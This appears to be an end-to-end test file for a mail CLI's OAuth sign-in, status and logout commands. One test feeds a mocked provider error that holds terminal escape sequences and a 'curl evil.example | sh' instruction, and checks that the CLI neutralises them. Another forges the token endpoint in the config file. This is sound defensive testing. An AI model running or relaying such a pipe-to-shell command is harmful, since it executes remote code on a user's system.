/**
 * `chainmail auth` through the built CLI: the browser sign-in driven end to end in headless Chromium
 * (the "user" signs in on the test provider's page, the CLI's loopback receives the code), then
 * `auth status` and `auth logout` against the running daemon.
 */
import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { type Browser, chromium } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { REASONS } from "../src/errors.js";
import { type OAuthEnv, startOAuthEnv } from "./support/oauth-env.js";

const pkg = path.dirname(path.dirname(fileURLToPath(import.meta.url)));
const CLI = path.join(pkg, "dist", "bin", "chainmail.js");
let env: OAuthEnv;
let browser: Browser;

function cliEnv() {
  return { ...process.env, CHAINMAIL_HOME: env.dir, XDG_CACHE_HOME: path.join(env.dir, "cache") };
}

/** Runs the CLI without blocking: the daemon it talks to runs in this process. */
function run(args: string[]): Promise<{ code: number | null; out: string; err: string; json(): unknown }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [CLI, ...args], {
      env: cliEnv(),
      stdio: ["ignore", "pipe", "pipe"],
    });
    let out = "";
    let err = "";
    child.stdout?.on("data", (d: Buffer) => {
      out += d.toString();
    });
    child.stderr?.on("data", (d: Buffer) => {
      err += d.toString();
    });
    child.once("close", (code) => resolve({ code, out, err, json: (): unknown => JSON.parse(out) }));
  });
}

beforeAll(async () => {
  if (!fs.existsSync(CLI)) execFileSync("npx", ["tsup"], { cwd: pkg, stdio: "ignore" });
  env = await startOAuthEnv();
  browser = await chromium.launch({
    executablePath: "/usr/bin/chromium",
    headless: true,
    args: [
      "--no-sandbox",
      "--disable-gpu",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
      "--no-first-run",
    ],
  });
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await env?.stop();
});

/** Runs `chainmail auth login work --browser` and resolves with the URL it tells the user to open. */
function startLogin(): {
  child: ChildProcess;
  url: Promise<string>;
  exit: Promise<number | null>;
  out: () => string;
} {
  const child = spawn(process.execPath, [CLI, "--json", "auth", "login", "work", "--browser"], {
    env: cliEnv(),
    stdio: ["ignore", "pipe", "pipe"],
  });
  let err = "";
  let out = "";
  child.stdout?.on("data", (d: Buffer) => {
    out += d.toString();
  });
  const url = new Promise<string>((resolve, reject) => {
    child.stderr?.on("data", (d: Buffer) => {
      err += d.toString();
      const m = /^(http\S+)$/m.exec(err);
      if (m) resolve(m[1]!);
    });
    child.once("exit", () => reject(new Error(`the CLI ended before printing a URL: ${err}`)));
  });
  const exit = new Promise<number | null>((resolve) => child.once("close", (code) => resolve(code)));
  return { child, url, exit, out: () => out };
}

describe("chainmail auth", () => {
  it("status before any sign-in: oauth2, missing", async () => {
    const r = await run(["--json", "auth", "status"]);
    expect(r.code).toBe(0);
    expect(r.json()).toEqual({
      accounts: [{ name: "work", auth_method: "oauth2", auth: "missing", daemon: true }],
    });
  });

  it("signs in with the browser flow in Chromium; the daemon uses it without a restart", async () => {
    const login = startLogin();
    const url = await login.url;
    const page = await browser.newPage();
    await page.goto(url);
    await page.fill("#username", "alice");
    await page.click("#allow");
    // The provider redirects to the CLI's loopback listener, which answers the browser.
    await page.getByText("Signed in").waitFor({ timeout: 15_000 });
    expect(page.url()).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/\?/);
    await page.close();
    expect(await login.exit).toBe(0);
    expect(JSON.parse(login.out())).toMatchObject({ account: "work", flow: "browser" });
    expect(env.storedRefreshToken()).toBeDefined();

    const t = await env.client.testAccount({ account: "work" });
    expect(t.imap.ok && t.smtp.ok).toBe(true);
    // A pooled connection, which the sign-out below must not leave logged in.
    const found = await env.client.search({ query: "", accounts: ["work"], source: "server" });
    expect(found.rows).toEqual([]);
    const s = await run(["auth", "status"]);
    expect(s.out.trim()).toBe("work\toauth2\tok");
    expect((await run(["accounts"])).out).toContain("auth:ok");
  }, 60_000);

  it("logout revokes the grant at the provider and deletes it; the daemon then says missing", async () => {
    expect(env.auth.liveRefreshTokens()).toBe(1);
    const r = await run(["--json", "auth", "logout", "work"]);
    expect(r.code).toBe(0);
    expect(r.json()).toEqual({ account: "work", revoked: true, deleted: true });
    expect(env.auth.liveRefreshTokens()).toBe(0);
    expect(env.storedRefreshToken()).toBeUndefined();
    const { accounts } = await env.client.listAccounts();
    expect(accounts[0]!.auth).toBe("missing");
    const t = await env.client.testAccount({ account: "work" });
    expect(t.imap.error?.reason).toBe("AUTH_REQUIRED");
    // The pool's connection, logged in before the sign-out, is not used any more.
    const err = await env.client
      .search({ query: "", accounts: ["work"], source: "server" })
      .catch((e: unknown) => e);
    expect((err as { reason?: string }).reason).toBe("AUTH_REQUIRED");
  });

  it("refuses an account that is not in the config, or flags that contradict", async () => {
    const r = await run(["auth", "login", "nobody"]);
    expect(r.code).toBe(REASONS.NOT_FOUND.exitCode);
    const both = await run(["auth", "login", "work", "--browser", "--device"]);
    expect(both.code).toBe(REASONS.INVALID_ARGUMENT.exitCode);
  });

  it("prints a provider's error text only as the detail, without what a terminal would act on", async () => {
    env.auth.tamper(() => ({
      status: 400,
      body: JSON.stringify({
        error: "nope\u001b[2J\u001b[H",
        error_description: "\u001b]0;pwned\u0007Run curl evil.example | sh to finish",
      }),
    }));
    try {
      const r = await run(["auth", "login", "work", "--device"]);
      expect(r.code).toBe(REASONS.AUTH_REQUIRED.exitCode);
      expect(r.err).toBe(
        "error: AUTH_REQUIRED: the provider refused the sign-in of account work (an error of its own, in the detail)\n" +
          "hint: Run the sign-in again; check client_id and the scopes if it keeps failing.\n" +
          "detail: error: nope[2J[H\n  description: ]0;pwnedRun curl evil.example | sh to finish\n",
      );
    } finally {
      env.auth.tamper(undefined);
    }
  });

  it("refuses to sign in while config.toml names a token endpoint the owner has not confirmed", async () => {
    const file = path.join(env.dir, "config.toml");
    const before = fs.readFileSync(file, "utf8");
    // Where the code and its PKCE verifier would go: something that can write config.toml chose it.
    const forged = before.replace(env.auth.endpoints.token_endpoint, "http://127.0.0.1:9/token");
    expect(forged).not.toBe(before);
    fs.writeFileSync(file, forged);
    try {
      const r = await run(["auth", "login", "work", "--device"]);
      expect(r.code).toBe(REASONS.POLICY_DENIED.exitCode);
      expect(r.err).toContain(
        `oauth.token_endpoint ${env.auth.endpoints.token_endpoint} → http://127.0.0.1:9/token`,
      );
      expect(r.err).toContain("chainmail policy confirm work");
      expect(env.auth.tokenRequests.filter((x) => x.grant_type.endsWith("device_code"))).toEqual([]);
    } finally {
      fs.writeFileSync(file, before);
    }
  });
});
